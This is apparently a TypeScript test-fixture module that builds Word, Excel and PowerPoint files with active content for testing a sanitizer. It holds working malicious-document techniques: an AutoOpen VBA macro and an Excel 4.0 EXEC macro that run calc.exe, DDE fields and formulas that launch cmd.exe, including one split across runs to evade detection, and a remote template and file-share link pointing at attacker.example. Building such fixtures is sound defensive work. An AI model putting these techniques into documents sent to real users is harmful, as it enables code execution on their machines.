import { zip } from './archives.js';
import { ole2 } from './ole2.js';

/**
 * Office Open XML packages for the sanitizer's tests, written part by part as Office writes
 * them: a Word document, an Excel workbook and a PowerPoint presentation, each with whatever
 * active content a test asks for (macros, ActiveX, OLE objects, external relationships, DDE).
 */

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PKG_REL = 'http://schemas.openxmlformats.org/package/2006/relationships';
const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const X = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const P = 'http://schemas.openxmlformats.org/presentationml/2006/main';
const A = 'http://schemas.openxmlformats.org/drawingml/2006/main';
const MS_REL = 'http://schemas.microsoft.com/office/2006/relationships';
const XML_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const OFFICE = 'application/vnd.openxmlformats-officedocument.';

interface Part {
  name: string;
  data: string | Buffer;
}

interface RelationshipSpec {
  id: string;
  type: string;
  target: string;
  external?: boolean;
}

function rels(relationships: readonly RelationshipSpec[]): string {
  return (
    `${XML_DECL}<Relationships xmlns="${PKG_REL}">` +
    relationships
      .map(
        (r) =>
          `<Relationship Id="${r.id}" Type="${r.type}" Target="${r.target}"${r.external ? ' TargetMode="External"' : ''}/>`,
      )
      .join('') +
    '</Relationships>'
  );
}

function contentTypes(defaults: Record<string, string>, overrides: Record<string, string>): string {
  return (
    `${XML_DECL}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
    '<Default Extension="xml" ContentType="application/xml"/>' +
    '<Default Extension="png" ContentType="image/png"/>' +
    Object.entries(defaults)
      .map(([ext, type]) => `<Default Extension="${ext}" ContentType="${type}"/>`)
      .join('') +
    Object.entries(overrides)
      .map(([part, type]) => `<Override PartName="/${part}" ContentType="${type}"/>`)
      .join('') +
    '</Types>'
  );
}

/** A VBA project as Office stores it: an OLE2 file with a module whose source is `source`. */
export function vbaProject(source = 'Sub AutoOpen()\r\n  Shell "calc.exe"\r\nEnd Sub'): Buffer {
  return ole2([
    { path: 'VBA/Module1', data: Buffer.from(source) },
    { path: 'VBA/dir', data: Buffer.from('vba dir stream') },
    {
      path: 'PROJECT',
      data: Buffer.from('ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\n'),
    },
  ]);
}

/** A one-pixel PNG: OLE objects' and pictures' previews. */
export const TINY_PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);

export interface WordOptions {
  paragraphs: readonly string[];
  macros?: boolean;
  activeX?: boolean;
  oleObject?: boolean;
  externalTemplate?: boolean;
  ddeField?: boolean;
  ddeSimpleField?: boolean;
  remoteImage?: boolean;
  /** A hyperlink to https://example.com (kept) and one to a file share (dropped). */
  hyperlinks?: boolean;
}

const paragraph = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;

/** A Word document (a .docm when it has macros) holding the paragraphs and what is asked. */
export function wordDocument(options: WordOptions): Promise<Buffer> {
  const body: string[] = options.paragraphs.map(paragraph);
  const documentRels: RelationshipSpec[] = [
    { id: 'rId1', type: `${REL}/styles`, target: 'styles.xml' },
    { id: 'rId2', type: `${REL}/settings`, target: 'settings.xml' },
  ];
  const parts: Part[] = [];
  const overrides: Record<string, string> = {
    'word/styles.xml': `${OFFICE}wordprocessingml.styles+xml`,
    'word/settings.xml': `${OFFICE}wordprocessingml.settings+xml`,
    'docProps/core.xml': 'application/vnd.openxmlformats-package.core-properties+xml',
  };
  const defaults: Record<string, string> = {};
  if (options.macros) {
    documentRels.push({ id: 'rId10', type: `${MS_REL}/vbaProject`, target: 'vbaProject.bin' });
    parts.push({ name: 'word/vbaProject.bin', data: vbaProject() });
    parts.push({
      name: 'word/_rels/vbaProject.bin.rels',
      data: rels([{ id: 'rId1', type: `${MS_REL}/wordVbaData`, target: 'vbaData.xml' }]),
    });
    parts.push({
      name: 'word/vbaData.xml',
      data: `${XML_DECL}<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:mcds><wne:mcd wne:macroName="PROJECT.MODULE1.AUTOOPEN" wne:name="Project.Module1.AutoOpen" wne:bEncrypt="00" wne:cmg="56"/></wne:mcds></wne:vbaSuppData>`,
    });
    defaults.bin = 'application/vnd.ms-office.vbaProject';
    overrides['word/vbaData.xml'] = 'application/vnd.ms-word.vbaData+xml';
  }
  if (options.activeX) {
    body.push(
      `<w:p><w:r><w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="_x0000_i1025" style="width:10pt;height:10pt"><v:imagedata r:id="rId21" o:title=""/></v:shape><w:control r:id="rId20" w:name="CheckBox1" w:shapeid="_x0000_i1025"/></w:object></w:r></w:p>`,
    );
    documentRels.push({ id: 'rId20', type: `${REL}/control`, target: 'activeX/activeX1.xml' });
    documentRels.push({ id: 'rId21', type: `${REL}/image`, target: 'media/image1.png' });
    parts.push({
      name: 'word/activeX/activeX1.xml',
      data: `${XML_DECL}<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStorage" r:id="rId1" xmlns:r="${REL}"/>`,
    });
    parts.push({
      name: 'word/activeX/_rels/activeX1.xml.rels',
      data: rels([{ id: 'rId1', type: `${MS_REL}/activeXControlBinary`, target: 'activeX1.bin' }]),
    });
    parts.push({
      name: 'word/activeX/activeX1.bin',
      data: ole2([{ path: 'Contents', data: Buffer.from('control state') }]),
    });
    parts.push({ name: 'word/media/image1.png', data: TINY_PNG });
    overrides['word/activeX/activeX1.xml'] = 'application/vnd.ms-office.activeX+xml';
    overrides['word/activeX/activeX1.bin'] = 'application/vnd.ms-office.activeX';
  }
  if (options.oleObject) {
    body.push(
      `<w:p><w:r><w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="_x0000_i1026" style="width:10pt;height:10pt"><v:imagedata r:id="rId31" o:title=""/></v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1026" DrawAspect="Icon" ObjectID="_1" r:id="rId30"/></w:object></w:r></w:p>`,
    );
    documentRels.push({
      id: 'rId30',
      type: `${REL}/oleObject`,
      target: 'embeddings/oleObject1.bin',
    });
    documentRels.push({ id: 'rId31', type: `${REL}/image`, target: 'media/image2.png' });
    parts.push({
      name: 'word/embeddings/oleObject1.bin',
      data: ole2([{ path: '\u0001Ole10Native', data: Buffer.from('payload.exe MZ this program') }]),
    });
    parts.push({ name: 'word/media/image2.png', data: TINY_PNG });
    overrides['word/embeddings/oleObject1.bin'] = `${OFFICE}oleObject`;
  }
  if (options.remoteImage) {
    body.push(
      `<w:p><w:r><w:drawing><a:graphic xmlns:a="${A}"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="rId40"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></w:drawing></w:r></w:p>`,
    );
    documentRels.push({
      id: 'rId40',
      type: `${REL}/image`,
      target: 'http://tracker.example/pixel.png',
      external: true,
    });
  }
  if (options.hyperlinks) {
    body.push(
      `<w:p><w:hyperlink r:id="rId50"><w:r><w:t>our website</w:t></w:r></w:hyperlink><w:hyperlink r:id="rId51"><w:r><w:t>the share</w:t></w:r></w:hyperlink></w:p>`,
    );
    documentRels.push({
      id: 'rId50',
      type: `${REL}/hyperlink`,
      target: 'https://example.com/',
      external: true,
    });
    documentRels.push({
      id: 'rId51',
      type: `${REL}/hyperlink`,
      target: 'file://attacker.example/share/x.exe',
      external: true,
    });
  }
  if (options.ddeField) {
    body.push(
      // The field's name split across runs, as droppers do to slip past a search for "DDE".
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>' +
        '<w:r><w:instrText xml:space="preserve">EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k </w:instrText></w:r>' +
        '<w:r><w:instrText xml:space="preserve">calc.exe"  </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>' +
        '<w:r><w:t>field result kept</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    );
  }
  if (options.ddeSimpleField) {
    body.push(
      '<w:p><w:fldSimple w:instr=" DDE WinWord &quot;C:\\\\Temp\\\\x.doc&quot; "><w:r><w:t>simple field result</w:t></w:r></w:fldSimple></w:p>',
    );
  }
  // A harmless field that stays: a page number.
  body.push(
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
  );
  const settingsRels: RelationshipSpec[] = [];
  let settings = `${XML_DECL}<w:settings xmlns:w="${W}" xmlns:r="${REL}"><w:zoom w:percent="100"/>`;
  if (options.externalTemplate) {
    settings += '<w:attachedTemplate r:id="rId1"/>';
    settingsRels.push({
      id: 'rId1',
      type: `${REL}/attachedTemplate`,
      target: 'http://attacker.example/template.dotm',
      external: true,
    });
  }
  settings += '</w:settings>';
  if (settingsRels.length > 0)
    parts.push({ name: 'word/_rels/settings.xml.rels', data: rels(settingsRels) });

  const main = options.macros
    ? 'application/vnd.ms-word.document.macroEnabled.main+xml'
    : `${OFFICE}wordprocessingml.document.main+xml`;
  overrides['word/document.xml'] = main;
  const document =
    `${XML_DECL}<w:document xmlns:w="${W}" xmlns:r="${REL}" xmlns:o="urn:schemas-microsoft-com:office:office">` +
    `<w:body>${body.join('')}<w:sectPr/></w:body></w:document>`;
  return zip(
    [
      { name: '[Content_Types].xml', data: contentTypes(defaults, overrides) },
      {
        name: '_rels/.rels',
        data: rels([
          { id: 'rId1', type: `${REL}/officeDocument`, target: 'word/document.xml' },
          { id: 'rId2', type: `${PKG_REL}/metadata/core-properties`, target: 'docProps/core.xml' },
        ]),
      },
      { name: 'word/document.xml', data: document },
      { name: 'word/_rels/document.xml.rels', data: rels(documentRels) },
      { name: 'word/styles.xml', data: `${XML_DECL}<w:styles xmlns:w="${W}"/>` },
      { name: 'word/settings.xml', data: settings },
      {
        name: 'docProps/core.xml',
        data: `${XML_DECL}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Test</dc:title></cp:coreProperties>`,
      },
      ...parts,
    ].map((part) => ({ name: part.name, data: Buffer.from(part.data) })),
  );
}

export interface WorkbookOptions {
  cells: readonly string[];
  macros?: boolean;
  /** An Excel 4.0 macro sheet, run by an Auto_Open name. */
  macroSheet?: boolean;
  /** An external link part with a DDE link, and a cell formula using it. */
  ddeLink?: boolean;
  /** A cell whose formula is a DDE call, with a cached value. */
  ddeFormula?: boolean;
  oleObject?: boolean;
}

/** An Excel workbook (a .xlsm when it has macros) with one sheet of the cells' strings. */
export function excelWorkbook(options: WorkbookOptions): Promise<Buffer> {
  const rows = options.cells.map(
    (text, i) =>
      `<row r="${i + 1}"><c r="A${i + 1}" t="inlineStr"><is><t>${text}</t></is></c></row>`,
  );
  const next = options.cells.length + 1;
  if (options.ddeFormula)
    rows.push(`<row r="${next}"><c r="A${next}"><f>cmd|'/c calc.exe'!A0</f><v>0</v></c></row>`);
  const workbookRels: RelationshipSpec[] = [
    { id: 'rId1', type: `${REL}/worksheet`, target: 'worksheets/sheet1.xml' },
  ];
  const sheetRels: RelationshipSpec[] = [];
  const parts: Part[] = [];
  const defaults: Record<string, string> = {};
  const overrides: Record<string, string> = {
    'xl/worksheets/sheet1.xml': `${OFFICE}spreadsheetml.worksheet+xml`,
  };
  let sheets = '<sheet name="Data" sheetId="1" r:id="rId1"/>';
  let names = '';
  let externalReferences = '';
  if (options.macros) {
    workbookRels.push({ id: 'rId10', type: `${MS_REL}/vbaProject`, target: 'vbaProject.bin' });
    parts.push({ name: 'xl/vbaProject.bin', data: vbaProject('Sub Workbook_Open()\r\nEnd Sub') });
    defaults.bin = 'application/vnd.ms-office.vbaProject';
  }
  if (options.macroSheet) {
    sheets += '<sheet name="Macro1" sheetId="2" r:id="rId11"/>';
    names +=
      '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames>';
    workbookRels.push({
      id: 'rId11',
      type: `${MS_REL}/xlMacrosheet`,
      target: 'macrosheets/sheet1.xml',
    });
    parts.push({
      name: 'xl/macrosheets/sheet1.xml',
      data: `${XML_DECL}<xm:macrosheet xmlns="${X}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>`,
    });
    overrides['xl/macrosheets/sheet1.xml'] = 'application/vnd.ms-excel.macrosheet+xml';
  }
  if (options.ddeLink) {
    externalReferences =
      '<externalReferences><externalReference r:id="rId12"/></externalReferences>';
    workbookRels.push({
      id: 'rId12',
      type: `${REL}/externalLink`,
      target: 'externalLinks/externalLink1.xml',
    });
    parts.push({
      name: 'xl/externalLinks/externalLink1.xml',
      data: `${XML_DECL}<externalLink xmlns="${X}"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>`,
    });
    overrides['xl/externalLinks/externalLink1.xml'] = `${OFFICE}spreadsheetml.externalLink+xml`;
  }
  let oleObjects = '';
  if (options.oleObject) {
    oleObjects =
      '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="x14"><oleObjects><oleObject progId="Package" shapeId="1025" r:id="rId1"/></oleObjects></mc:Choice><mc:Fallback><oleObjects><oleObject progId="Package" shapeId="1025" r:id="rId1"/></oleObjects></mc:Fallback></mc:AlternateContent>';
    sheetRels.push({
      id: 'rId1',
      type: `${REL}/oleObject`,
      target: '../embeddings/oleObject1.bin',
    });
    parts.push({
      name: 'xl/embeddings/oleObject1.bin',
      data: ole2([{ path: '\u0001Ole10Native', data: Buffer.from('MZ payload') }]),
    });
    overrides['xl/embeddings/oleObject1.bin'] = `${OFFICE}oleObject`;
  }
  if (sheetRels.length > 0)
    parts.push({ name: 'xl/worksheets/_rels/sheet1.xml.rels', data: rels(sheetRels) });
  overrides['xl/workbook.xml'] = options.macros
    ? 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'
    : `${OFFICE}spreadsheetml.sheet.main+xml`;
  const workbook = `${XML_DECL}<workbook xmlns="${X}" xmlns:r="${REL}"><bookViews><workbookView activeTab="0"/></bookViews><sheets>${sheets}</sheets>${externalReferences}${names}</workbook>`;
  const sheet = `${XML_DECL}<worksheet xmlns="${X}" xmlns:r="${REL}"><sheetData>${rows.join('')}</sheetData>${oleObjects}</worksheet>`;
  return zip(
    [
      { name: '[Content_Types].xml', data: contentTypes(defaults, overrides) },
      {
        name: '_rels/.rels',
        data: rels([{ id: 'rId1', type: `${REL}/officeDocument`, target: 'xl/workbook.xml' }]),
      },
      { name: 'xl/workbook.xml', data: workbook },
      { name: 'xl/_rels/workbook.xml.rels', data: rels(workbookRels) },
      { name: 'xl/worksheets/sheet1.xml', data: sheet },
      ...parts,
    ].map((part) => ({ name: part.name, data: Buffer.from(part.data) })),
  );
}

export interface PresentationOptions {
  texts: readonly string[];
  macros?: boolean;
  oleObject?: boolean;
  /** A click on the text runs a program (a hyperlink to a local executable). */
  programLink?: boolean;
}

/** A PowerPoint presentation (a .pptm when it has macros) with one slide of the texts. */
export function powerpointPresentation(options: PresentationOptions): Promise<Buffer> {
  const slideRels: RelationshipSpec[] = [];
  const parts: Part[] = [];
  const defaults: Record<string, string> = {};
  const overrides: Record<string, string> = {
    'ppt/slides/slide1.xml': `${OFFICE}presentationml.slide+xml`,
  };
  const runs = options.texts.map((text, i) => {
    const click =
      options.programLink && i === 0
        ? '<a:rPr><a:hlinkClick r:id="rId5" action="ppaction://program"/></a:rPr>'
        : '';
    return `<a:p><a:r>${click}<a:t>${text}</a:t></a:r></a:p>`;
  });
  if (options.programLink)
    slideRels.push({
      id: 'rId5',
      type: `${REL}/hyperlink`,
      target: 'file:///C:/Windows/System32/calc.exe',
      external: true,
    });
  let frame = '';
  if (options.oleObject) {
    frame = `<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="Object 3"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="100" cy="100"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj name="Packager Shell Object" r:id="rId6" progId="Package"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>`;
    slideRels.push({
      id: 'rId6',
      type: `${REL}/oleObject`,
      target: '../embeddings/oleObject1.bin',
    });
    parts.push({
      name: 'ppt/embeddings/oleObject1.bin',
      data: ole2([{ path: '\u0001Ole10Native', data: Buffer.from('MZ payload') }]),
    });
    overrides['ppt/embeddings/oleObject1.bin'] = `${OFFICE}oleObject`;
  }
  const presentationRels: RelationshipSpec[] = [
    { id: 'rId2', type: `${REL}/slide`, target: 'slides/slide1.xml' },
  ];
  if (options.macros) {
    presentationRels.push({ id: 'rId10', type: `${MS_REL}/vbaProject`, target: 'vbaProject.bin' });
    parts.push({ name: 'ppt/vbaProject.bin', data: vbaProject('Sub Auto_Open()\r\nEnd Sub') });
    defaults.bin = 'application/vnd.ms-office.vbaProject';
  }
  if (slideRels.length > 0)
    parts.push({ name: 'ppt/slides/_rels/slide1.xml.rels', data: rels(slideRels) });
  overrides['ppt/presentation.xml'] = options.macros
    ? 'application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml'
    : `${OFFICE}presentationml.presentation.main+xml`;
  const slide = `${XML_DECL}<p:sld xmlns:p="${P}" xmlns:a="${A}" xmlns:r="${REL}"><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/><p:sp><p:nvSpPr><p:cNvPr id="2" name="Text"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/>${runs.join('')}</p:txBody></p:sp>${frame}</p:spTree></p:cSld></p:sld>`;
  const presentation = `${XML_DECL}<p:presentation xmlns:p="${P}" xmlns:r="${REL}"><p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/></p:presentation>`;
  return zip(
    [
      { name: '[Content_Types].xml', data: contentTypes(defaults, overrides) },
      {
        name: '_rels/.rels',
        data: rels([{ id: 'rId1', type: `${REL}/officeDocument`, target: 'ppt/presentation.xml' }]),
      },
      { name: 'ppt/presentation.xml', data: presentation },
      { name: 'ppt/_rels/presentation.xml.rels', data: rels(presentationRels) },
      { name: 'ppt/slides/slide1.xml', data: slide },
      ...parts,
    ].map((part) => ({ name: part.name, data: Buffer.from(part.data) })),
  );
}
